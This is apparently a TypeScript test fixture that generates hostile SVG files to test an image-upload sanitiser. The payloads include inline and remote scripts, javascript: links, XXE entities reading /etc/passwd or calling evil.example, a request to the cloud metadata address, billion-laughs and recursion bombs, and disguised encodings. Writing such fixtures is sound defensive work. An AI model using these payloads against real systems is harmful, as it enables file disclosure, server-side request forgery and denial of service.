import { gzipSync } from 'node:zlib'
import { MARK, text, type HostileFile, type Outcome } from './hostile-file.ts'

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inside: string, attributes = 'width="40" height="30"') => `<svg ${NS} ${attributes}>${inside}</svg>`
const RECT = '<rect width="40" height="30" fill="#a52"/>'
const RUN = `fetch('/${MARK}')`

/** Things that would run, ask or read if the drawing were shown as it is. They are painted, and nothing of them is left. */
const ACTIVE: Readonly<Record<string, string>> = {
  script: svg(`${RECT}<script>${RUN}</script>`),
  'script in CDATA': svg(`${RECT}<script type="text/javascript"><![CDATA[${RUN}]]></script>`),
  'script from elsewhere': svg(`${RECT}<script href="https://evil.example/${MARK}.js"/>`),
  'an event of the whole': svg(RECT, `width="40" height="30" onload="${RUN}"`),
  'an event of a part': svg(`<rect width="40" height="30" fill="#a52" onclick="${RUN}" onmouseover="${RUN}"/>`),
  'an animation that begins a script': svg(`${RECT}<animate attributeName="x" onbegin="${RUN}" dur="1s"/>`),
  'an animated link': svg(`<a><animate attributeName="href" values="javascript:${RUN}"/>${RECT}</a>`),
  'a link that runs': svg(`<a xlink:href="javascript:${RUN}">${RECT}</a>`),
  'a page inside': svg(`${RECT}<foreignObject width="40" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${RUN}"/></body></foreignObject>`),
  'a form inside': svg(
    `${RECT}<foreignObject width="40" height="30"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/${MARK}"><input name="p"/></form></foreignObject>`,
  ),
  'a file of the server': svg(`${RECT}<image href="file:///etc/passwd" width="20" height="20"/>`),
  'a picture from elsewhere': svg(`${RECT}<image xlink:href="http://169.254.169.254/${MARK}" width="20" height="20"/>`),
  'a part of a file': svg(`${RECT}<use href="file:///etc/hosts#${MARK}"/>`),
  'styles from elsewhere': `<?xml version="1.0"?>${svg(`<style>@import url(https://evil.example/${MARK}.css);rect{fill:url(https://evil.example/${MARK})}</style>${RECT}`)}`,
  'a font from elsewhere': svg(`<style>@font-face{font-family:x;src:url(file:///etc/passwd)}</style><text font-family="x" y="20">${MARK}</text>${RECT}`),
  'another document': svg(`${RECT}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`),
  'a drawing in a picture in a drawing': svg(`${RECT}<image href="data:image/svg+xml;base64,${btoa(svg(`<script>${RUN}</script>`))}" width="20" height="20"/>`),
  'a handler of its own': svg(`${RECT}<handler xmlns="http://www.w3.org/2000/svg" type="application/ecmascript">${RUN}</handler>`),
}

const ENTITY = (inside: string, body: string) => `<?xml version="1.0"?><!DOCTYPE svg [${inside}]>${svg(`<text y="20">${body}</text>`)}`
const laughs = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')

const ENTITIES: Readonly<Record<string, string>> = {
  'that laughs a billion times': ENTITY(`<!ENTITY l0 "ha">${laughs}`, '&l12;'),
  'that reads a file': ENTITY('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
  'that asks elsewhere': ENTITY(`<!ENTITY x SYSTEM "http://evil.example/${MARK}">`, '&x;'),
  'with a parameter': ENTITY(`<!ENTITY % p SYSTEM "http://evil.example/${MARK}.dtd">%p;`, 'x'),
  'in small letters': ENTITY('<!entity x "y">', 'x'),
}

const nestedUse = (depth: number) =>
  svg(
    `<defs><g id="a0">${RECT}</g>${Array.from({ length: depth }, (_, at) => `<g id="a${at + 1}">${`<use href="#a${at}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#a${depth}"/>`,
  )

const SLOW: readonly Outcome[] = ['taken', 'fileUnreadable', 'pictureTooLarge']
const HEAVY: readonly [about: string, drawing: string, outcomes: readonly Outcome[]][] = [
  ['as wide as a house', svg(RECT, 'width="99999" height="99999"'), ['pictureTooLarge']],
  ['as wide as a street', svg(RECT, 'width="9999999999" height="1"'), SLOW],
  ['of no size', svg(RECT, 'width="0" height="0"'), ['fileUnreadable', 'pictureTooLarge', 'taken']],
  ['of less than no size', svg(RECT, 'width="-5" height="-5"'), ['fileUnreadable', 'pictureTooLarge', 'taken']],
  ['as thin as a hair', svg(RECT, 'width="20000" height="1"'), ['taken', 'pictureTooLarge', 'fileUnreadable']],
  ['of too many parts', svg('<g/>'.repeat(25_000)), ['pictureTooLarge']],
  ['that goes too deep', svg(`${'<g>'.repeat(9_000)}${RECT}${'</g>'.repeat(9_000)}`), ['fileUnreadable', 'taken', 'pictureTooLarge']],
  ['heavier than a drawing is', svg(`<path d="${'M0 0L9 9'.repeat(300_000)}"/>`), ['pictureTooLarge']],
  ['of one endless line', svg(`<path fill="none" stroke="#000" d="M0 0${'l9 9l-9-8'.repeat(60_000)}"/>`), SLOW],
  ['that uses itself', svg('<g id="a"><use href="#a"/></g>'), ['taken', 'fileUnreadable']],
  ['that uses itself ten to the ninth', nestedUse(9), SLOW],
  ['blurred without end', svg(`<filter id="f"><feGaussianBlur stdDeviation="100000"/></filter><g filter="url(#f)">${RECT}</g>`), SLOW],
  ['of turbulence', svg(`<filter id="f">${'<feTurbulence baseFrequency="5" numOctaves="200"/>'.repeat(40)}</filter><rect width="40" height="30" filter="url(#f)"/>`), SLOW],
  [
    'of patterns in patterns',
    svg(`<pattern id="p" width="0.0001" height="0.0001"><rect width="1" height="1" fill="url(#p)"/></pattern><rect width="40" height="30" fill="url(#p)"/>`),
    SLOW,
  ],
  ['with a bomb inside', svg(`<image width="40" height="30" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA6mAAAOpgCAYAAAA=="/>${RECT}`), ['taken', 'fileUnreadable']],
  ['that does not end', `<svg ${NS} width="40" height="30"><g`, ['fileUnreadable']],
  ['of nothing', '<svg', ['fileTypeNotAllowed', 'fileUnreadable']],
  ['behind many remarks', `${'<!-- x -->'.repeat(400)}${svg(RECT)}`, ['taken']],
]

export function drawings(): HostileFile[] {
  const active = Object.entries(ACTIVE).map(([what, drawing]): HostileFile => ({
    about: `a drawing with ${what}`,
    filename: 'active.svg',
    make: () => text(drawing),
    outcomes: ['taken', 'fileUnreadable'],
  }))
  const entities = Object.entries(ENTITIES).map(([what, drawing]): HostileFile => ({
    about: `an entity ${what}`,
    filename: 'entity.svg',
    make: () => text(drawing),
    outcomes: ['fileTypeNotAllowed'],
  }))
  const heavy = HEAVY.map(([what, drawing, outcomes]): HostileFile => ({
    about: `a drawing ${what}`,
    filename: 'heavy.svg',
    make: () => text(drawing),
    outcomes,
    isSlow: outcomes === SLOW,
  }))
  const packed: HostileFile[] = [
    { about: 'a packed drawing', filename: 'packed.svg', make: () => gzipSync(svg(RECT)), outcomes: ['fileTypeNotAllowed'] },
    {
      about: 'a drawing in two bytes a letter',
      filename: 'wide.svg',
      make: () => Buffer.from(`\ufeff${ACTIVE['script']}`, 'utf16le'),
      outcomes: ['fileTypeNotAllowed', 'fileUnreadable'],
    },
    { about: 'a drawing that calls itself a photograph', filename: 'drawing.jpg', make: () => text(ACTIVE['script'] ?? ''), outcomes: ['taken'] },
  ]
  return [...active, ...entities, ...heavy, ...packed]
}
